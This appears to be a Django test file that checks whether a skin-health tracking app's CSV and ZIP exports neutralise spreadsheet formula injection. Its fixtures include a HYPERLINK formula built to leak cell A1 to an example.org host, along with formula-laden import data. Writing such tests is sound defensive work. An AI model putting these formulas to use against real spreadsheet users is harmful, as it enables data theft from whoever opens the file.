"""No CSV we write can attack the person who opens it (issue 11 §3): a text cell
beginning with =, +, -, @, a tab or a carriage return gets a single quote in front
(OWASP, "CSV Injection"), and numbers stay numbers, negative ones included."""

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

from django.test import TestCase
from django.urls import reverse

from skingarden.portability.exports.csv_tables import csv_text
from skingarden.portability.imports import import_file
from skingarden.programmes.models import CheckIn
from skingarden.test import BaseTestCase
from tests.portability.helpers import TODAY

FORMULA = '=HYPERLINK("https://example.org/?leak="&A1,"Open")'
# A Flaredown file whose names and cells are all formulas, and one real number.
HOSTILE_FLAREDOWN = (
    b"Date,@SUM(1+1),-Itch,+Cream,Tags,Foods\n"
    b"2026-02-01,3,1,-2 pumps,=1+2,-fried; @home\n"
)


def read_zip(content: bytes) -> dict[str, list[list[str]]]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {
            name: list(csv.reader(io.StringIO(archive.read(name).decode())))
            for name in archive.namelist()
        }


class CsvCellTests(TestCase):
    def test_text_is_neutralised_and_numbers_are_not(self):
        row = [
            -3,
            Decimal("-1.5"),
            -0.25,
            "-3",
            "=1+1",
            "+44 20",
            "@SUM(A1)",
            "\tx",
            "\rx",
            ["=a", "b"],
            "a=b",
            "",
            None,
            date(2026, 3, 1),
            True,
        ]
        self.assertEqual(
            csv_text([row]),
            "-3,-1.5,-0.25,'-3,'=1+1,'+44 20,'@SUM(A1),'\tx,\"'\rx\",'=a; b,a=b,,,"
            "2026-03-01,yes\r\n",
        )


class ParticipantDownloadTests(BaseTestCase):
    def test_every_file_of_the_zip_neutralises_formulas(self):
        checkin = self.programme.checkins.order_by("date").first()
        assert checkin is not None
        CheckIn.objects.filter(pk=checkin.pk).update(note=FORMULA)
        import_file(
            owner=self.alice, fmt="flaredown", data=HOSTILE_FLAREDOWN, today=TODAY
        )
        self.login(self.alice)
        files = read_zip(
            self.client.get(reverse("portability:export", args=["csv"])).content
        )
        daily = files["daily.csv"]
        note = daily[0].index("note")
        row = next(r for r in daily if r[0] == checkin.date.isoformat())
        self.assertEqual(row[note], "'" + FORMULA)
        self.assertEqual(
            files["imported-daily.csv"],
            [
                ["date", "'-Itch", "'@SUM(1+1)", "'+Cream", "tags", "free_tags",
                 "foods", "weather"],
                ["2026-02-01", "1", "3", "'-2 pumps", "", "'=1+2",
                 "'-fried; @home", ""],
            ],
        )  # fmt: skip
        long_names = {r[1] for r in files["long.csv"] if r[6] == "imported"}
        self.assertEqual(long_names, {"'-Itch", "'@SUM(1+1)"})
        dictionary = {r[0] for r in files["data-dictionary.csv"]}
        self.assertTrue({"'-Itch", "'@SUM(1+1)", "'+Cream"} <= dictionary)
        self.assertFalse(
            any(
                cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                and not cell.lstrip("-").replace(".", "").isdigit()
                for rows in files.values()
                for row in rows
                for cell in row
            )
        )
